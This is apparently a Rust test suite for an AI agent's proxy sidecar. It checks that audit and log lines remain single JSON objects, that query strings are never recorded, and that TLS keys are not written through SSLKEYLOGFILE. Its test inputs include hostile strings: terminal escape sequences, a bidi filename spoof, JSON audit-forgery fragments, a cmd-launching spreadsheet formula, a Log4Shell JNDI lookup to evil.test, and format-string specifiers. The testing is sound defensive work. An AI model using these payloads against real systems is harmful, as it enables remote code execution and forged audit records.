//! What an agent writes where people and programs read: the audit and the log.

use super::{outcome, request, send};
use crate::support::{FakeUpstream, Stage, canary};

/// Text that bends a line, a terminal, a record or a sheet.
const ODD: [&str; 12] = [
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{9b}31m",
    "\u{202e}txt.exe",
    "\u{2028}{\"type\":\"exchange\",\"decision\":\"allow\"}",
    "\u{85}next",
    "\",\"decision\":\"allow\",\"x\":\"",
    "\\\",\\\"decision\\\":\\\"allow",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.test/x}",
    "%s%n%x",
    "\t{\"type\":\"mint\"}",
    "\u{feff}\u{200b}\u{0}",
];

async fn loud() -> Stage {
    let upstream = FakeUpstream::start(&["api.test"]).await;
    Stage::with(upstream, |builder| builder.flag("--log-level").flag("trace")).await
}

/// Every line of both is JSON of one kind, and holds nothing that does something by being printed.
fn assert_plain(stage: &Stage) {
    for (what, text) in [("the audit", stage.sidecar.audit_text()), ("the log", stage.sidecar.log())] {
        for line in text.split('\n').filter(|line| !line.is_empty()) {
            assert!(
                serde_json::from_str::<serde_json::Value>(line).is_ok_and(|line| line.is_object()),
                "{what}: {line:?}"
            );
            let acts = |c: char| {
                c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
            };
            assert!(!line.contains(acts), "{what}: {line:?}");
            assert!(line.len() < 16 * 1024, "{what} has a line of {} bytes", line.len());
        }
    }
}

#[tokio::test]
async fn what_an_agent_writes_bends_no_line() {
    let stage = loud().await;
    let nonce = stage.reader().await;
    let coded = |text: &str| text.bytes().map(|byte| format!("%{byte:02X}")).collect::<String>();
    for odd in ODD {
        send(&stage, &request(&format!("GET /{}", coded(odd)), "", &nonce, "")).await;
        send(&stage, &request(&format!("GET /{odd}"), "", &nonce, "")).await;
        send(&stage, &request(&format!("GET /x?{odd}={odd}"), "", &nonce, "")).await;
        for name in ["User-Agent", "X-Request-Id", "Traceparent", "Referer", "X-Forwarded-For", "Content-Type"] {
            send(&stage, &request("GET /x", &format!("{name}: {odd}\r\n"), &nonce, "")).await;
        }
        send(&stage, &request(&format!("G{odd}T /x"), "", &nonce, "")).await;
        send(&stage, format!("GET /x HTTP/1.1\r\nHost: {odd}\r\n\r\n").as_bytes()).await;
        send(&stage, &request("GET /x", "", odd, "")).await;
        let agent = stage.sidecar.agent();
        for head in [
            format!("CONNECT {odd}:443 HTTP/1.1\r\nHost: {odd}\r\n\r\n"),
            format!(
                "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\nUser-Agent: {odd}\r\nConnection: close\r\n\r\n"
            ),
            format!("GET http://{odd}/ HTTP/1.1\r\nHost: {odd}\r\nConnection: close\r\n\r\n"),
        ] {
            agent.connect_with(head.as_bytes()).await;
        }
    }
    assert_plain(&stage);
    let allowed = stage.sidecar.audit().into_iter().filter(|record| record["decision"] == "allow").count();
    assert!(stage.sidecar.audit().len() > allowed && allowed >= stage.upstream.seen().len(), "none was made up");
}

#[tokio::test]
async fn bytes_that_are_no_text_and_long_ones_leave_short_lines() {
    let stage = loud().await;
    let nonce = stage.reader().await;
    let long = "a".repeat(8_000);
    for bytes in [
        [
            &b"GET /x HTTP/1.1\r\nHost: api.test\r\nUser-Agent: "[..],
            &[0xff, 0xfe, 0x80],
            b"\r\nConnection: close\r\n\r\n",
        ]
        .concat(),
        [&b"GET /"[..], &[0xc3, 0x28, 0xff], b" HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"].concat(),
        request(&format!("GET /{long}"), "", &nonce, ""),
        request("GET /x", &format!("User-Agent: {long}\r\n"), &nonce, ""),
        request(&format!("{long} /x"), "", &nonce, ""),
        request("GET /x", &format!("X: {}\r\n", "b".repeat(1024 * 1024)), &nonce, ""),
    ] {
        // A head that is far too long may be cut off while it is still being sent.
        let mut tls = stage.sidecar.agent().tls_tunnel("api.test", "api.test", &[]).await.expect("TLS");
        let _ = tokio::io::AsyncWriteExt::write_all(&mut tls, &bytes).await;
        crate::support::wire::read_answers(&mut tls, 1, crate::support::agent::PATIENCE).await;
    }
    assert_plain(&stage);
}

#[tokio::test]
async fn queries_are_kept_nowhere() {
    let stage = loud().await;
    let nonce = stage.reader().await;
    let (value, key) = (canary(), canary());
    for (target, status) in [(format!("/x?page={value}&{key}=1"), 200), (format!("/x?api_key={value}"), 403)] {
        let answer = send(&stage, &request(&format!("GET {target}"), "", &nonce, "")).await;
        assert_eq!(outcome(&answer).0, status, "{answer}");
    }
    let (audit, log) = (stage.sidecar.audit_text(), stage.sidecar.log());
    let metrics = stage.sidecar.admin_get("/metrics").await.text();
    for text in [&audit, &log, &metrics] {
        assert!(!text.contains(&value) && !text.contains(&key), "a query was kept");
    }
}

/// Nobody gets the keys of a connection by a variable that other programs heed.
#[tokio::test]
async fn no_variable_lays_the_keys_of_tls_open() {
    let upstream = FakeUpstream::start(&["api.test"]).await;
    let place = tempfile::tempdir().expect("a directory");
    let keys = place.path().join("keys.log");
    let named = keys.to_str().expect("text").to_owned();
    let stage = Stage::with(upstream, |builder| builder.environment("SSLKEYLOGFILE", &named)).await;
    let nonce = stage.reader().await;
    assert_eq!(stage.sidecar.agent().get("api.test", "/x", &nonce).await.status, 200);
    assert!(!keys.exists(), "keys were written");
}
